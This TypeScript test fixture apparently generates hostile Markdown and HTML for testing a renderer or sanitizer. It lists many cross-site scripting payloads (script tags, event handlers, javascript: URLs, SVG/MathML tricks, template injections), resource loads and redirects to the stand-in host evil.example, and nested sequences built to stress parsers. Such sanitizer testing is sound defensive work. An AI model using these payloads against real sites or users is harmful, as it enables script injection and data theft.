import { badAddresses, goodLookingAddresses, tag, zeroWidth } from './hostile-addresses.ts';

/** Hostile markdown. Every script in it calls `pwn`, every request would go to a host under `evil.example`. */

const linkForms: ((address: string) => string)[] = [
  (a) => `[click](${a})`,
  (a) => `[click](<${a}>)`,
  (a) => `[click]( ${a} "title" onclick=pwn(1))`,
  (a) => `[click](${a}\n"title")`,
  (a) => `[click](${a}`,
  (a) => `[](${a})`,
  (a) => `[${zeroWidth}](${a})`,
  (a) => `[bank.example](${a})`,
  (a) => `![image](${a})`,
  (a) => `![image](<${a}> 'x'onerror=pwn(1))`,
  (a) => `[![image](${a})](${a})`,
  (a) => `[a [b](${a}) c](${a})`,
  (a) => `[**a _b_**](${a})`,
  (a) => `<${a}>`,
  (a) => a,
  (a) => `see ${a}, (${a}) and "${a}".`,
  (a) => `**${a}** _${a}_ ~~${a}~~`,
  (a) => `[click][1]\n\n[1]: ${a}`,
  (a) => `![click][1]\n\n[1]: <${a}> "x"`,
  (a) => `- [ ] [click](${a})\n  1. <${a}>`,
  (a) => `> # [click](${a})`,
  (a) => `| [click](${a}) | ![x](${a}) |\n|---|---|\n| ${a} | <${a}> |`,
  (a) => `\`[click](${a})\` [\`x\`](${a})`,
  (a) => `\`\`\`${a}\n[click](${a})\n\`\`\``,
  (a) => `<a href="${a}">click</a>`,
  (a) => `<img src='${a}' srcset="${a} 1x">`,
  (a) => `<iframe src=${a}></iframe><object data="${a}"></object><embed src="${a}">`,
];

const rawHtml = [
  ...[
    '<script>pwn(1)</script>',
    '<script src=https://evil.example/a.js></script>',
    '<ScRiPt >pwn(1)</sCrIpT >',
  ],
  ...[
    '<scr<script>ipt>pwn(1)</scr</script>ipt>',
    '</p><script>pwn(1)</script>',
    '<script\n>pwn(1)</script\n>',
  ],
  ...[
    '<img src=x onerror=pwn(1)>',
    '<img/src=x/onerror=pwn(1)>',
    '<IMG SRC=`x` ONERROR="pwn(1)">',
    '<img src=x:x',
  ],
  ...[
    '<image src=x onerror=pwn(1)>',
    '<svg onload=pwn(1)>',
    '<svg/onload=pwn(1)//',
    '<svg><script>pwn(1)</script>',
  ],
  ...[
    '<svg><a xlink:href="javascript:pwn(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#x"/>',
  ],
  ...[
    '<svg><animate onbegin=pwn(1) attributeName=x></svg>',
    '<svg><foreignObject><body onload=pwn(1)>',
    '<svg></p>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=pwn(1)>',
    '<math href="javascript:pwn(1)">x</math>',
  ],
  ...[
    '<iframe srcdoc="<script>pwn(1)</script>">',
    '<body onload=pwn(1)>',
    '<video src=x onerror=pwn(1)></video>',
  ],
  ...['<audio src=x onerror=pwn(1)>', '<details open ontoggle=pwn(1)>', '<input autofocus onfocus=pwn(1)>'],
  ...[
    '<select autofocus onfocus=pwn(1)>',
    '<marquee onstart=pwn(1)>',
    '<form action="javascript:pwn(1)"><button>x',
  ],
  ...[
    '<button formaction=javascript:pwn(1)>x',
    '<isindex type=image src=1 onerror=pwn(1)>',
    '<object data=x></object>',
  ],
  ...[
    '<link rel=stylesheet href=https://evil.example/a.css>',
    '<style>@import "https://evil.example/a.css";</style>',
  ],
  ...[
    '<style>*{background:url(https://evil.example/a)}</style>',
    '<p style="background:url(https://evil.example/a)">',
  ],
  ...[
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
  ],
  ...[
    '<template><script>pwn(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=pwn(1)>">',
  ],
  ...[
    '<!--><img src=x onerror=pwn(1)>-->',
    '<![CDATA[<script>pwn(1)</script>]]>',
    '<?xml version="1.0"?><x/>',
    '<!--',
  ],
  ...[
    '<x onclick=pwn(1) tabindex=1 id=x>#x',
    '<a id=harness name=seen>',
    '<img name=getElementById>',
    '<br onclick=pwn(1)>',
  ],
  ...[
    '<br/ onclick=pwn(1)>',
    '<br\n>',
    '<br / >',
    '<BR>',
    '<b>bold</b>',
    '<a href=x>',
    '<p class="heading" id=x>',
  ],
  ...[
    '{{constructor.constructor("pwn(1)")()}}',
    '<%= pwn(1) %>',
    '#{pwn(1)}',
    '&lt;script&gt;pwn(1)&lt;/script&gt;',
  ],
  ...[
    '<portal src=https://evil.example>',
    '<slot name=x>',
    '<dialog open>',
    '<hand-rail data-site=x>',
    '<frameset onload=pwn(1)>',
  ],
];

const contexts: ((inner: string) => string)[] = [
  (x) => x,
  (x) => `# ${x}\n\n${x}`,
  (x) => `> ${x}\n> > ${x}`,
  (x) => `- ${x}\n  - ${x}\n\n${x}`,
  (x) => `1. ${x}\n2. ${x}`,
  (x) => `| ${x} | b |\n|---|---|\n| ${x} | ${x} |\n${x}`,
  (x) => `\`${x}\` \`\`${x}\``,
  (x) => `\`\`\`html\n${x}\n\`\`\`\n${x}`,
  (x) => `    ${x}\n${x}`,
  (x) => `**${x}** *${x}* ~~${x}~~ __${x}_`,
  (x) => `[${x}](https://a.example) ![${x}](https://a.example)`,
  (x) => `\\(${x}\\) $$\n${x}\n$$ \\[\n${x}`,
  (x) => [...x].join(zeroWidth),
  (x) => x.replaceAll('<', '<\u202e').replaceAll('(', `(${tag}`),
];

/** Marks that open something, again and again. Each is also a worst case for a parser that looks back. */
export const nastyRepetitions = [
  ...[
    '*',
    '**',
    '***a',
    '*a_b',
    '_a *b ',
    '*a **b _c __d ~~e ',
    '*a* ',
    'a_',
    '2*',
    '~~a',
    '`',
    '``a',
    'x`',
    '~',
  ],
  ...[
    '[',
    ']',
    '![',
    '[![',
    '[a](',
    '](',
    '(',
    ')',
    '[a](https://a.example/',
    '[](https://a.example)',
    '- [ ] ',
  ],
  ...[
    '> ',
    '>',
    '- ',
    '- - ',
    '> - ',
    '1. - ',
    '- a\n',
    '  - a\n',
    '* a\n\n',
    '> a\n\n',
    '1. ',
    '1',
    '#',
    '# a\n',
  ],
  ...[
    '|',
    '| a ',
    '| a |\n',
    '|-',
    '| a |\n|---|\n',
    '```',
    '```a',
    '```\n',
    '\\',
    '$',
    '$$',
    '\\(',
    '\\[',
    '<',
    '<br>',
  ],
  ...[
    '<br',
    '<b>',
    'h',
    'http',
    '(https://a.example',
    'https://a.example/(',
    'https://a.example/)',
    'bank.example ',
  ],
  ...[
    '\n',
    '\n\n',
    ' ',
    '\t',
    '\r\n',
    '\0',
    '\u202e',
    '\u{1f469}\u200d',
    '\ud83d',
    'a.b-',
    '!',
    ':',
    '&amp;',
  ],
];

const nested = nastyRepetitions.flatMap((part) => [
  part.repeat(40),
  `${part.repeat(24)}[x](javascript:pwn(1))<img src=x onerror=pwn(1)>`,
  Array.from({ length: 24 }, (_, depth) => `${' '.repeat(2 * depth)}${part}<svg onload=pwn(1)>`).join('\n'),
]);

/** All of them, and for each a mutant in which a few characters have changed places. */
export function hostilePayloads(): string[] {
  const links = [...badAddresses, ...goodLookingAddresses].flatMap((address) =>
    linkForms.map((form) => form(address)),
  );
  const html = rawHtml.flatMap((markup) => contexts.map((context) => context(markup)));
  const whole = [...links, ...html, ...nested];
  return [...whole, ...whole.filter((_, at) => at % 6 === 0).map(mutant)];
}

/** The same mutant in every run, so that a failure can be looked at again. */
function mutant(payload: string, seed: number): string {
  const units = [...payload.slice(0, 400)];
  let state = seed + 1;
  for (let swap = 0; swap < 6; swap += 1) {
    state = (state * 48_271) % 2_147_483_647;
    const from = state % units.length;
    const to = Math.floor(state / 7) % units.length;
    [units[from], units[to]] = [units[to] ?? '', units[from] ?? ''];
  }
  return units.join('');
}
